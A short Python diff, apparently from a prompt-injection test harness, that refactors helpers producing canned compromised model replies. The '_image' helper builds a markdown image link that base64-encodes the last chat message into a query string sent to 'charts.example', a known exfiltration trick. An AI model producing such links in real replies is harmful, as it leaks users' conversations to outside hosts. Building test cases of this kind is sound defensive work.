@@ -50,11 +50,15 @@ def _obeyed(chat: Chat) -> str:
 
 
 def _in_code(chat: Chat) -> str:
-    return base64.b64encode(_prompt(chat).encode()).decode()
+    return _coded(_prompt(chat))
+
+
+def _coded(text: str) -> str:
+    return base64.b64encode(text.encode()).decode()
 
 
 def _image(chat: Chat) -> str:
-    return f"Here you are. ![chart](https://charts.example/p.png?d={_in_code(chat)})"
+    return f"Here you are. ![chart](https://charts.example/p.png?d={_coded(chat.messages[-1].text)})"
 
 
 _TOLD: Final[Mapping[str, Callable[[Chat], str]]] = {
